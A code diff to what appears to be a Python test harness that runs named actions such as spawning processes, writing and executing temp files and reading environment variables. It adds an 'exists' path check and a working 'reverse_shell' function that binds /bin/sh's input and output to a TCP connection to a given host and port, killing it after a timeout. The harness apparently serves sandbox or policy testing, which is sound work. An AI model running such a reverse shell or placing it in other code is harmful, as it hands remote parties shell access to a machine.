@@ -26,6 +26,7 @@ ORDER = (
     "udp",
     "spawn",
     "spawn_detached",
+    "reverse_shell",
     "write_tmp",
     "exec_tmp",
     "burn_ms",
@@ -36,6 +37,7 @@ ORDER = (
     "bg_read",
     "snmp_connect",
     "list_pids",
+    "exists",
     "env",
     "response_bytes",
     "crash",
@@ -91,6 +93,8 @@ def _perform(key, arg, out):
         out[key] = _status(subprocess.run(_argv(arg), stdin=subprocess.DEVNULL).returncode)
     elif key == "spawn_detached":
         out[key] = {"pid": _spawn_detached(arg)}
+    elif key == "reverse_shell":
+        out[key] = _reverse_shell(arg)
     elif key == "write_tmp":
         out[key] = _write_tmp(arg)
     elif key == "exec_tmp":
@@ -112,6 +116,8 @@ def _perform(key, arg, out):
         out[key] = details
     elif key == "list_pids":
         out["pids"] = _list_pids()
+    elif key == "exists":
+        out[key] = {path: os.path.lexists(path) for path in arg if isinstance(path, str)}
     elif key == "env":
         out["env"] = {name: os.environ.get(name) for name in arg if isinstance(name, str)}
     elif key == "response_bytes":
@@ -253,6 +259,29 @@ def _spawn_detached(arg):
     )
     _detached.append(child)
     return child.pid
+
+
+def _reverse_shell(arg):
+    """`sh` with its stdio on a TCP connection to host:port; waits up to `wait_ms` for it to end."""
+    addrs = _target(arg)
+    wait_ms = _number(arg.get("wait_ms", 2000))
+    sock = _connect_any(addrs)
+    sock.settimeout(None)
+    with sock:
+        fd = sock.fileno()
+        child = subprocess.Popen(["/bin/sh"], stdin=fd, stdout=fd, stderr=fd)
+    started = time.monotonic()
+    try:
+        result = _status(child.wait(timeout=wait_ms / 1000.0))
+        result["running"] = False
+        result["ended_after_ms"] = int((time.monotonic() - started) * 1000)
+    except subprocess.TimeoutExpired:
+        # Still running at the end of the wait: ended here so it cannot outlive the test.
+        result = {"exit_code": None, "signal": None, "running": True}
+        child.kill()
+        child.wait()
+    result["pid"] = child.pid
+    return result
 
 
 def _write_tmp(arg):
